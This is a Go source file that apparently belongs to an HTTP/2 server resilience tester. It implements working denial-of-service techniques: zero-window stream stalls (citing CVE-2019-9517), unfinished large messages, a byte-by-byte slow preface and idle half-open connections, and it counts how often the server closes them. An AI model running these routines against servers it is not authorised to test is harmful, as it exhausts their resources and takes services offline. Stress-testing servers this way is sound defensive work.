package h2attack

import (
	"context"
	"errors"
	"io"
	"net"
	"sync"
	"time"

	"golang.org/x/net/http2"
)

// ZeroWindowStall opens streams whose answers have no window to be sent in
// (CVE-2019-9517 in spirit), reads nothing, and stays. Of Count it opens at most
// 2,000 streams; it stays for a fifth of the time.
func ZeroWindowStall(ctx context.Context, dial Dialer, o Options) (Result, error) {
	w, err := open(ctx, dial, o, http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0})
	if err != nil {
		return Result{}, err
	}
	w.o.Count = min(w.o.Count, 2000)
	w.repeat(func(int) {
		stream := w.call(false)
		w.sent(w.fr.WriteData(stream, true, make([]byte, 5))) // an empty message
	})
	if w.err == nil {
		w.err = w.buf.Flush()
	}
	w.stay()
	return w.finish()
}

// UnfinishedMessages begins a message of 4 MiB on each of Count streams, of which
// there are at most 2,000, sends as much of it as a stream's window of 256 KiB
// lets it, and stays for a fifth of the time. It minds no window of the connection.
func UnfinishedMessages(ctx context.Context, dial Dialer, o Options) (Result, error) {
	w, err := open(ctx, dial, o)
	if err != nil {
		return Result{}, err
	}
	w.listen()
	w.o.Count = min(w.o.Count, 2000)
	first := append([]byte{0, 0, 0x40, 0, 0}, make([]byte, 16<<10-5)...)
	w.repeat(func(int) {
		stream := w.call(false)
		w.sent(w.fr.WriteData(stream, false, first))
		for range 14 {
			w.sent(w.fr.WriteData(stream, false, first[5:]))
		}
	})
	if w.err == nil {
		w.err = w.buf.Flush()
	}
	w.stay()
	return w.finish()
}

// stay does nothing for a fifth of the time.
func (w *wire) stay() {
	stay := time.NewTimer(w.o.Timeout / 5)
	defer stay.Stop()
	select {
	case <-stay.C:
	case <-w.done: // blocks for ever where nobody reads
	case <-w.ctx.Done():
	}
}

// SlowPreface sends the client's preface (RFC 9113 section 3.4) over the whole of
// the time, byte by byte.
func SlowPreface(ctx context.Context, dial Dialer, o Options) (Result, error) {
	o = o.withDefaults()
	return quiet(ctx, dial, o, 1, func(conn net.Conn, until time.Time) {
		pause := time.NewTicker(max(time.Until(until)/time.Duration(len(http2.ClientPreface)), time.Millisecond))
		defer pause.Stop()
		for i := range http2.ClientPreface {
			if _, err := io.WriteString(conn, http2.ClientPreface[i:i+1]); err != nil {
				return
			}
			<-pause.C
		}
	})
}

// HalfOpen makes Count connections and says nothing on them. Result.Ended is how
// many the server ended within the time; of those that could not be made, too.
func HalfOpen(ctx context.Context, dial Dialer, o Options) (Result, error) {
	o = o.withDefaults()
	return quiet(ctx, dial, o, o.Count, func(net.Conn, time.Time) {})
}

// quiet reads from connections until each ends or the time is over.
func quiet(ctx context.Context, dial Dialer, o Options, count int, talk func(net.Conn, time.Time)) (Result, error) {
	until := time.Now().Add(o.Timeout)
	var wg sync.WaitGroup
	var mu sync.Mutex
	var r Result
	for range count {
		if ctx.Err() != nil || time.Now().After(until) {
			break
		}
		conn, err := dial()
		if err != nil {
			var op *net.OpError
			if !errors.As(err, &op) {
				wg.Wait()
				return r, err
			}
			mu.Lock()
			r.Ended++
			mu.Unlock()
			continue
		}
		_ = conn.SetDeadline(until)
		stop := context.AfterFunc(ctx, func() { _ = conn.SetDeadline(time.Unix(1, 0)) })
		wg.Go(func() { talk(conn, until) })
		wg.Go(func() {
			defer stop()
			_, err := io.Copy(io.Discard, conn)
			w := &wire{}
			if err == nil {
				err = io.EOF
			}
			w.ended(err)
			mu.Lock()
			defer mu.Unlock()
			if r.End = w.r.End; r.End != EndOpen {
				r.Ended++
			}
			_ = conn.Close()
		})
	}
	wg.Wait()
	return r, ctx.Err()
}
